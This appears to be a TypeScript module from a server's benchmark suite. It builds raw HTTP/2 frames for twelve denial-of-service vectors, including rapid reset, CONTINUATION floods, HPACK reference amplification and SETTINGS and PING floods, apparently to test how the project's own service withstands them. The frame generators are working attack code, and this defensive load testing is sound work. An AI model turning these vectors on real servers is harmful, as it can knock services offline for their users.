/**
 * The HTTP/2 attacks `npm run bench -- --attacks` runs (issue 33; the CVEs
 * behind them: rapid reset 2023-44487, the 2019 family 9511-9518, the
 * CONTINUATION floods of VU#421644). Each vector is the frames one attacking
 * connection writes, one unit at a time (a stream, or a burst of control
 * frames), and how it treats the server's frames. The attacker
 * (attacker.ts) writes units while its socket takes them.
 *
 * Header blocks use literals without indexing (raw-h2-frames.ts), so the
 * server's HPACK table never changes, except for vector 5's one insertion.
 */
import { hpackString } from '../support/hpack-encoding';
import { FLAG, FRAME, literalBlock, rawFrame } from '../support/raw-h2-frames';
import { REQUEST_HEADERS } from './h2-driver';

/** RFC 9113 §6.5.2: what every peer accepts before SETTINGS say more; a larger frame would be the attacker's own error. */
export const MAX_FRAME_PAYLOAD = 16_384;
const CANCEL = 0x8;
const SETTINGS_ENABLE_PUSH = 0x2;
const SETTINGS_INITIAL_WINDOW_SIZE = 0x4;
/** RFC 7541 §2.3.3: the newest dynamic table entry. */
const FIRST_DYNAMIC_INDEX = 62;
/** Under 4,096 (every server's default SETTINGS_HEADER_TABLE_SIZE) with its 32 octets of overhead, so it is kept. */
const LARGE_HEADER_VALUE_BYTES = 4_000;
/**
 * A block of references just under 64 KiB: the size the issue measured, and under the 4 × 16 KiB the service
 * closes a connection for (its header-block limit), so what is measured is the decoding, not that limit.
 */
const REFERENCE_BLOCK_BYTES = 4 * 16_000;
/** Control frames written per unit (SETTINGS and PING floods): enough that a unit is a write worth making. */
const CONTROL_FRAMES_PER_UNIT = 64;

/** What one attacking connection knows of its peer and its own streams. */
export interface AttackState {
  /** The next client stream id (odd). */
  nextStreamId: number;
  /** Streams this attacker opened that the server has not ended or reset (tracked only for the vectors that need it). */
  openStreams: Set<number>;
  /** The server's SETTINGS_MAX_CONCURRENT_STREAMS (unbounded until its SETTINGS say). */
  serverMaxStreams: number;
  /** Bytes of DATA the server's connection window still takes. */
  sendWindow: number;
  /** The Check message (5-byte prefix and CheckRequest) of the vectors that send one: the normal client's. */
  checkFrame: Buffer;
}

export interface AttackUnit {
  bytes: Buffer;
  frames: number;
  streams: number;
}

export interface AttackVector {
  id: string;
  title: string;
  /**
   * No compliant client sends this: the server should close the connection. Slow read and zero window are not
   * abuse: a client on a slow or congested link looks the same, and flow control is how it says so.
   */
  abuse: boolean;
  /** How the attacker reads: every frame (ACKing SETTINGS and PINGs), nothing until the end, or a trickle. */
  reading: 'all' | 'none' | 'slow';
  /** The attacker's SETTINGS, and whether it opens its connection window (all but zero window do). */
  settings: readonly (readonly [number, number])[];
  openWindow: boolean;
  /** Sent once after the preface. */
  opening?: (state: AttackState) => AttackUnit;
  /** The next unit, or undefined when nothing may be sent until the server's frames say so (a stream limit, a window). */
  next(state: AttackState): AttackUnit | undefined;
}

const CHECK_BLOCK = literalBlock(REQUEST_HEADERS);

function unit(frames: Buffer[], streams: number): AttackUnit {
  return { bytes: Buffer.concat(frames), frames: frames.length, streams };
}

function newStreamId(state: AttackState): number {
  const id = state.nextStreamId;
  state.nextStreamId += 2;
  return id;
}

/** A header block as HEADERS then as many CONTINUATION frames as MAX_FRAME_PAYLOAD needs, END_HEADERS on the last. */
export function headerBlockFrames(streamId: number, block: Buffer, endStream: boolean): Buffer[] {
  const frames: Buffer[] = [];
  for (let at = 0; at === 0 || at < block.length; at += MAX_FRAME_PAYLOAD) {
    const last = at + MAX_FRAME_PAYLOAD >= block.length;
    const type = at === 0 ? FRAME.HEADERS : FRAME.CONTINUATION;
    const flags = (last ? FLAG.END_HEADERS : 0) | (at === 0 && endStream ? FLAG.END_STREAM : 0);
    frames.push(rawFrame(type, flags, streamId, block.subarray(at, at + MAX_FRAME_PAYLOAD)));
  }
  return frames;
}

/** Vector 3's two malformed requests: no :path, and a pseudo-header after a regular field (RFC 9113 §8.3). */
export const MALFORMED_BLOCKS: readonly Buffer[] = [
  literalBlock(REQUEST_HEADERS.filter(([name]) => name !== ':path')),
  literalBlock([...REQUEST_HEADERS.filter(([name]) => !name.startsWith(':')), ...REQUEST_HEADERS.filter(([name]) => name.startsWith(':'))]),
];

/** Vector 5's first block: a request that inserts one large header (literal with incremental indexing, §6.2.1). */
export const LARGE_HEADER_INSERTION = Buffer.concat([
  CHECK_BLOCK,
  Buffer.from([0x40, ...hpackString('x-large'), ...hpackString('v'.repeat(LARGE_HEADER_VALUE_BYTES))]),
]);

/** Vector 5's later blocks: a request whose remaining octets each name that entry (an indexed field, §6.1). */
export const REFERENCE_BLOCK = Buffer.concat([
  CHECK_BLOCK,
  Buffer.alloc(REFERENCE_BLOCK_BYTES - CHECK_BLOCK.length, 0x80 | FIRST_DYNAMIC_INDEX),
]);

/**
 * Vector 6: a request, then empty field names with empty values to fill one frame: each field is 0x00 (a literal
 * without indexing, new name, §6.2.2), 0x00 (a name of length 0), 0x00 (a value of length 0).
 */
export const EMPTY_NAMES_BLOCK = Buffer.concat([CHECK_BLOCK, Buffer.alloc(Math.floor((MAX_FRAME_PAYLOAD - CHECK_BLOCK.length) / 3) * 3)]);

/** Vector 7's CONTINUATION payload: literal fields of 1,000-octet values, whole fields to just under a frame. */
export const CONTINUATION_FILLER = (() => {
  const field = Buffer.from([0x00, ...hpackString('x-filler'), ...hpackString('f'.repeat(1_000))]);
  return Buffer.concat(Array.from({ length: Math.floor(MAX_FRAME_PAYLOAD / field.length) }, () => field));
})();

/**
 * A header block that never ends: HEADERS without END_HEADERS on a new stream, then CONTINUATION frames of
 * `payload` for ever. The connection may carry no other frame meanwhile (§6.10), so one stream per connection.
 */
function continuationFlood(payload: Buffer): Pick<AttackVector, 'opening' | 'next'> {
  return {
    opening: (state) => unit([rawFrame(FRAME.HEADERS, FLAG.END_STREAM, newStreamId(state), CHECK_BLOCK)], 1),
    next: (state) => {
      const streamId = state.nextStreamId - 2;
      return unit(
        Array.from({ length: payload.length === 0 ? CONTROL_FRAMES_PER_UNIT : 4 }, () =>
          rawFrame(FRAME.CONTINUATION, 0, streamId, payload),
        ),
        0,
      );
    },
  };
}

const READ_ALL = { reading: 'all', settings: [[SETTINGS_ENABLE_PUSH, 0]], openWindow: true } as const;

export const ATTACK_VECTORS: readonly AttackVector[] = [
  {
    id: 'rapid-reset-check',
    title: 'rapid reset, with the Check message',
    abuse: true,
    ...READ_ALL,
    next: (state) => {
      const check = checkStream(state);
      if (!check) return undefined;
      return {
        bytes: Buffer.concat([check.bytes, rawFrame(FRAME.RST_STREAM, 0, state.nextStreamId - 2, u32(CANCEL))]),
        frames: 3,
        streams: 1,
      };
    },
  },
  {
    id: 'rapid-reset-headers',
    title: 'rapid reset, headers only',
    abuse: true,
    ...READ_ALL,
    next: (state) => {
      const id = newStreamId(state);
      return unit([rawFrame(FRAME.HEADERS, FLAG.END_HEADERS, id, CHECK_BLOCK), rawFrame(FRAME.RST_STREAM, 0, id, u32(CANCEL))], 1);
    },
  },
  {
    id: 'malformed-requests',
    title: 'malformed requests the server resets',
    abuse: true,
    ...READ_ALL,
    next: (state) => {
      const id = newStreamId(state);
      return unit([rawFrame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, MALFORMED_BLOCKS[(id >> 1) % 2])], 1);
    },
  },
  {
    id: 'empty-data',
    title: 'empty DATA frames on an open stream',
    abuse: true,
    ...READ_ALL,
    // One open stream at a time; when the server ends or resets it, the next one.
    next: (state) => {
      const frames: Buffer[] = [];
      let streams = 0;
      if (state.openStreams.size === 0) {
        const id = newStreamId(state);
        state.openStreams.add(id);
        frames.push(rawFrame(FRAME.HEADERS, FLAG.END_HEADERS, id, CHECK_BLOCK));
        streams = 1;
      }
      const [id] = state.openStreams;
      for (let i = 0; i < CONTROL_FRAMES_PER_UNIT; i += 1) frames.push(rawFrame(FRAME.DATA, 0, id!));
      return unit(frames, streams);
    },
  },
  {
    id: 'hpack-references',
    title: 'HPACK: one large header referenced thousands of times',
    abuse: true,
    ...READ_ALL,
    opening: (state) => unit(headerBlockFrames(newStreamId(state), LARGE_HEADER_INSERTION, true), 1),
    next: (state) => unit(headerBlockFrames(newStreamId(state), REFERENCE_BLOCK, true), 1),
  },
  {
    id: 'empty-field-names',
    title: 'header blocks of empty field names',
    abuse: true,
    ...READ_ALL,
    next: (state) => unit(headerBlockFrames(newStreamId(state), EMPTY_NAMES_BLOCK, true), 1),
  },
  {
    id: 'continuation-flood',
    title: 'CONTINUATION flood, full frames',
    abuse: true,
    ...READ_ALL,
    ...continuationFlood(CONTINUATION_FILLER),
  },
  {
    id: 'continuation-zero',
    title: 'CONTINUATION flood, zero-length frames',
    abuse: true,
    ...READ_ALL,
    ...continuationFlood(Buffer.alloc(0)),
  },
  {
    // Each SETTINGS obliges an ACK the attacker never reads: those pile up at the server (CVE-2019-9515).
    id: 'settings-flood',
    title: 'SETTINGS flood, never reading',
    abuse: true,
    ...READ_ALL,
    reading: 'none',
    next: () => {
      const payload = Buffer.alloc(6);
      payload.writeUInt16BE(SETTINGS_ENABLE_PUSH, 0);
      return unit(
        Array.from({ length: CONTROL_FRAMES_PER_UNIT }, () => rawFrame(FRAME.SETTINGS, 0, 0, payload)),
        0,
      );
    },
  },
  {
    // Each PING obliges an ACK the attacker never reads (CVE-2019-9512).
    id: 'ping-flood',
    title: 'PING flood, never reading',
    abuse: true,
    ...READ_ALL,
    reading: 'none',
    next: () =>
      unit(
        Array.from({ length: CONTROL_FRAMES_PER_UNIT }, () => rawFrame(FRAME.PING, 0, 0, Buffer.alloc(8))),
        0,
      ),
  },
  {
    id: 'slow-read',
    title: 'slow read: Checks to the stream limit, the answers read a trickle at a time',
    abuse: false,
    ...READ_ALL,
    reading: 'slow',
    // A compliant client counts a stream open until it has read the answer's end, so the stream limit binds.
    next: (state) => checkWithinStreamLimit(state),
  },
  {
    // The server may send HEADERS but no DATA: every answer waits, its stream open (CVE-2019-9517).
    id: 'zero-window',
    title: 'zero window: SETTINGS_INITIAL_WINDOW_SIZE 0, Checks kept open to the stream limit',
    abuse: false,
    reading: 'all',
    settings: [
      [SETTINGS_ENABLE_PUSH, 0],
      [SETTINGS_INITIAL_WINDOW_SIZE, 0],
    ],
    openWindow: false,
    next: (state) => checkWithinStreamLimit(state),
  },
];

/** A whole Check while fewer streams are open than the server allows; it stays open until the server ends or resets it. */
function checkWithinStreamLimit(state: AttackState): AttackUnit | undefined {
  if (state.openStreams.size >= state.serverMaxStreams) return undefined;
  const sent = checkStream(state);
  if (sent) state.openStreams.add(state.nextStreamId - 2);
  return sent;
}

/** A whole Check (HEADERS, then the message with END_STREAM), within the server's connection window. */
function checkStream(state: AttackState): AttackUnit | undefined {
  const { checkFrame } = state;
  if (state.sendWindow < checkFrame.length) return undefined;
  state.sendWindow -= checkFrame.length;
  const id = newStreamId(state);
  return unit([rawFrame(FRAME.HEADERS, FLAG.END_HEADERS, id, CHECK_BLOCK), rawFrame(FRAME.DATA, FLAG.END_STREAM, id, checkFrame)], 1);
}

function u32(value: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(value, 0);
  return payload;
}

export function vectorById(id: string): AttackVector {
  const vector = ATTACK_VECTORS.find((candidate) => candidate.id === id);
  if (!vector) throw new Error(`no attack vector '${id}' (the vectors: ${ATTACK_VECTORS.map((v) => v.id).join(', ')})`);
  return vector;
}
